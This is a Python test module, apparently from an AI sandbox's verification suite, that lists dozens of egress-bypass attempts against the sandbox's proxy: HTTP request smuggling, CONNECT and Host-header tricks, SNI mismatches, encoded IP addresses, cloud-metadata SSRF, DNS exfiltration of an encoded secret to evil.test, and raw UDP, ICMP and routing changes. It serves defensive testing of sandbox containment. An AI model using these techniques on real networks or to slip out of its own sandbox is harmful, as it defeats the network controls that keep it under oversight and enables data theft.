"""What hostile code tries against the egress policy.

The sandbox may reach `up.test` at $UP_PORT. `evil.test` is at $EVIL_IP, with a server on $EVIL_PORT, 80
and 443; the names resolve outside. $SERVER_PORT is another program on the host's own 127.0.0.1.
"""

from lm_sandbox.sandboxes.verification.attempts import PYTHON, Attempt

DIRECT = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY curl -sS -k -m 5"
CURL = "curl -sS -k -m 5 --noproxy ''"

_PRELUDE = r"""import os, socket, ssl, struct
EVIL, PORT, UP = os.environ["EVIL_IP"], os.environ["EVIL_PORT"], os.environ["UP_PORT"]
def proxy(port=3128):
    s = socket.create_connection(("127.0.0.1", port), 5); s.settimeout(3); return s
def say(text, port=3128):
    s = proxy(port); s.sendall(text.replace("\n", "\r\n").encode("latin-1"))
    try:
        while piece := s.recv(9999): print(piece.decode("latin-1"))
    except (TimeoutError, ConnectionError): pass
def number(ip): return struct.unpack("!I", socket.inet_aton(ip))[0]
def tunnel(target, name, inner):
    s = proxy(); s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()); print(s.recv(9999))
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    t = c.wrap_socket(s, server_hostname=name); t.sendall(inner.encode()); print(t.recv(9999))
def ask(name, kind=1, server="127.0.0.1", tcp=False):
    q = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(2); s.connect((server, 53))
    s.send((struct.pack("!H", len(q)) if tcp else b"") + q); r = s.recv(999)[2 * tcp:]
    if struct.unpack_from("!HHHH", r)[3]: print("THROUGH")
"""


def _python(code: str) -> str:
    return f"{PYTHON} - <<'EOF' 2>&1\n{_PRELUDE}{code}\nEOF"


_WAYS = {
    "the address": "$EVIL_IP:$EVIL_PORT",
    "the name": "evil.test:$EVIL_PORT",
    "the name with a dot": "evil.test.:$EVIL_PORT",
    "the name in capitals": "EVIL.TEST:$EVIL_PORT",
    "a name that ends alike": "evilup.test:$EVIL_PORT",
    "a name that begins alike": "up.test.evil.test:$EVIL_PORT",
    "a name below": "sub.up.test:$EVIL_PORT",
    "IPv4 in IPv6": "[::ffff:$EVIL_IP]:$EVIL_PORT",
    "NAT64": "[64:ff9b::$EVIL_IP]:$EVIL_PORT",
    "user and password": "up.test:$UP_PORT@evil.test:$EVIL_PORT",
    "another port of an allowed name": "up.test:$EVIL_PORT",
    "a name that is rebound": "rebind.test:$EVIL_PORT",
    "a name with a private address": "inside.test:$EVIL_PORT",
    "the metadata address": "169.254.169.254",
    "the metadata address in IPv6": "[::ffff:169.254.169.254]",
    "the metadata name": "metadata.google.internal",
    "the host's loopback": "127.0.0.1:$SERVER_PORT",
    "the host's loopback by name": "localhost:$SERVER_PORT",
    "the host's loopback in short": "127.1:$SERVER_PORT",
    "the host's loopback as zero": "0.0.0.0:$SERVER_PORT",
    "the host's loopback in IPv6": "[::1]:$SERVER_PORT",
    "the models of the server": "lm-sandbox.internal",
}
_SAID = {
    "CONNECT and then the name": "CONNECT evil.test:{PORT} HTTP/1.1\nHost: up.test:{UP}\n\n",
    "CONNECT with a path": "CONNECT up.test:{UP}/../evil.test:{PORT} HTTP/1.1\nHost: up.test:{UP}\n\n",
    "CONNECT with a user": "CONNECT up.test@evil.test:{PORT} HTTP/1.1\nHost: x\n\n",
    "CONNECT with a fragment": "CONNECT evil.test:{PORT}#up.test:{UP} HTTP/1.1\nHost: x\n\n",
    "CONNECT with a space": "CONNECT up.test:{UP} evil.test:{PORT} HTTP/1.1\nHost: x\n\n",
    "CONNECT with a NUL": "CONNECT evil.test:{PORT}\0.up.test:{UP} HTTP/1.1\nHost: x\n\n",
    "CONNECT without a port": "CONNECT {EVIL} HTTP/1.1\nHost: x\n\n",
    "CONNECT with a zone": "CONNECT [fe80::1%lo]:{PORT} HTTP/1.1\nHost: x\n\n",
    "CONNECT in a tunnel": "CONNECT up.test:80 HTTP/1.1\nHost: x\n\nCONNECT evil.test:{PORT} HTTP/1.1\nHost: x\n\n",
    "another Host header": "GET http://up.test:{UP}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "another Host header first": "GET http://evil.test:{PORT}/ HTTP/1.1\nHost: up.test:{UP}\n\n",
    "two Host headers": "GET / HTTP/1.1\nHost: up.test:{UP}\nHost: evil.test:{PORT}\n\n",
    "a folded Host header": "GET / HTTP/1.1\nHost: up.test:{UP},\n evil.test:{PORT}\n\n",
    "no Host header": "GET http://evil.test:{PORT}/ HTTP/1.0\n\n",
    "another scheme": "GET ftp://evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "a target without a scheme": "GET //evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "a backslash": "GET http://up.test:{UP}\\@evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "two lengths": "POST http://up.test:{UP}/ HTTP/1.1\nHost: up.test:{UP}\nContent-Length: 0\nContent-Length: 60\n\nGET http://evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "a length and chunks": "POST http://up.test:{UP}/ HTTP/1.1\nHost: up.test:{UP}\nContent-Length: 5\nTransfer-Encoding: chunked\n\n0\n\nGET http://evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "odd chunks": "POST http://up.test:{UP}/ HTTP/1.1\nHost: up.test:{UP}\nTransfer-Encoding: xchunked\n\n0\n\nGET http://evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "a second request": "GET http://up.test:{UP}/ HTTP/1.1\nHost: up.test:{UP}\n\nGET http://evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\n\n",
    "a bare line end in a header": "GET http://up.test:{UP}/ HTTP/1.1\nHost: up.test:{UP}\nX: a\rHost: evil.test\n\n",
    "HTTP/2": "PRI * HTTP/2.0\n\nSM\n\n",
    "an upgrade to h2c": "GET http://evil.test:{PORT}/ HTTP/1.1\nHost: evil.test:{PORT}\nConnection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\n\n",
    "a forwarded host": "GET http://up.test:{UP}/ HTTP/1.1\nHost: up.test:{UP}\nX-Forwarded-Host: evil.test:{PORT}\n\n",
    "the API of the server": "GET http://lm-sandbox.internal/v1/sandboxes HTTP/1.1\nHost: lm-sandbox.internal\n\n",
}
# What comes to the proxy, which is the same for every driver.
AT_THE_PROXY = [
    *(Attempt("egress", f"{way} by the proxy", f"{CURL} http://{to}/") for way, to in _WAYS.items()),
    *(Attempt("egress", f"{way} by a tunnel", f"{CURL} -p http://{to}/") for way, to in _WAYS.items()),
    *(Attempt("egress", f"say {name}", _python(f"say(f{text!r})")) for name, text in _SAID.items()),
    *(Attempt("egress", f"say {name} on port 80", _python(f"say(f{text!r}, 80)")) for name, text in _SAID.items()),
    *(Attempt("egress", f"the address as {form}", _python(f"say(f'GET http://{{{code}}}:{{PORT}}/ HTTP/1.1\\nHost: {{{code}}}:{{PORT}}\\n\\n')"))
      for form, code in (("a number", "number(EVIL)"), ("hexadecimal", "hex(number(EVIL))"), ("octal", "'0%o' % number(EVIL)"))),
    Attempt("egress", "another name in the handshake", _python("tunnel('up.test:443', 'evil.test', f'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')")),
    Attempt("egress", "no name in the handshake", _python("tunnel('up.test:443', None, f'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')")),
    Attempt("egress", "another name on another port", _python("tunnel(f'up.test:{UP}', 'evil.test', 'GET / HTTP/1.1\\r\\n\\r\\n')")),
    Attempt("egress", "no TLS on its port", _python("s = proxy(); s.sendall(b'CONNECT up.test:443 HTTP/1.1\\r\\nHost: up.test:443\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); print(s.recv(999), s.recv(999))")),
    Attempt("egress", "TLS to the front door", f"{DIRECT} --resolve evil.test:443:127.0.0.1 https://evil.test/"),
    Attempt("egress", "TLS to the front door by address", f"{DIRECT} --connect-to ::127.0.0.1:443 https://$EVIL_IP/"),
    Attempt("egress", "a redirection", f"{CURL} -L http://up.test:$UP_PORT/redirect?http://evil.test:$EVIL_PORT/"),
    Attempt("egress", "SOCKS", "curl -sS -m 5 -x socks5h://127.0.0.1:3128 http://evil.test:$EVIL_PORT/"),
    Attempt("egress", "another proxy", "curl -sS -m 5 -x http://$EVIL_IP:$EVIL_PORT http://evil.test/"),
]  # fmt: skip
# What goes another way, which the driver must not have left open.
AROUND = [
    *(Attempt("egress", f"{way} directly", f"{DIRECT} http://{to}/") for way, to in _WAYS.items()),
    Attempt("egress", "a name is looked up", _python("ask('evil.test')")),
    Attempt("egress", "a name is looked up over TCP", _python("ask('evil.test', tcp=True)")),
    Attempt("egress", "a secret in a name", _python("ask('c2VjcmV0LXRvLXRlbGw.evil.test', 16)")),
    Attempt("egress", "text of an allowed name", _python("ask('up.test', 16)")),
    Attempt("egress", "a resolver outside", _python("ask('evil.test', server='8.8.8.8')")),
    Attempt("egress", "a resolver of the host", _python("ask('evil.test', server=EVIL)")),
    Attempt("egress", "UDP to the address", _python("s = socket.socket(2, 2); s.settimeout(1); s.sendto(b'x', (EVIL, int(PORT))); s.recv(9); print('THROUGH')")),
    Attempt("egress", "broadcast", _python("s = socket.socket(2, 2); s.setsockopt(1, 6, 1); s.sendto(b'x', ('255.255.255.255', 9)); print('THROUGH')")),
    Attempt("egress", "multicast", _python("s = socket.socket(2, 2); s.sendto(b'x', ('224.0.0.251', 5353)); print('THROUGH')")),
    Attempt("egress", "IPv6", _python("socket.create_connection(('2606:4700:4700::1111', 443), 2); print('THROUGH')")),
    Attempt("egress", "SCTP", _python("s = socket.socket(2, 1, 132); s.settimeout(2); s.connect((EVIL, int(PORT))); print('THROUGH')")),
    Attempt("egress", "ICMP", _python("socket.socket(2, 2, 1).sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', (EVIL, 0)); print('THROUGH')")),
    Attempt("egress", "an abstract socket of the host", _python("s = socket.socket(1, 1); s.connect('\\0' + os.environ['ABSTRACT']); print(s.recv(99).decode())")),
    Attempt("egress", "a route", "ip route add default dev lo 2>/dev/null && echo THROUGH"),
    Attempt("egress", "an address for the interface", "ip addr add $EVIL_IP/8 dev lo 2>/dev/null && echo THROUGH"),
    Attempt("egress", "a port of the front doors", _python("for p in (53, 80, 443, 3128, 1023):\n    try: socket.create_server(('127.0.0.1', p), reuse_port=True); print('THROUGH')\n    except OSError: pass")),
    Attempt("egress", "a port of the front doors for all addresses", _python("for p in (53, 80, 443, 3128):\n    try: socket.create_server(('0.0.0.0', p)); print('THROUGH')\n    except OSError: pass")),
]  # fmt: skip
ATTEMPTS = [*AT_THE_PROXY, *AROUND]
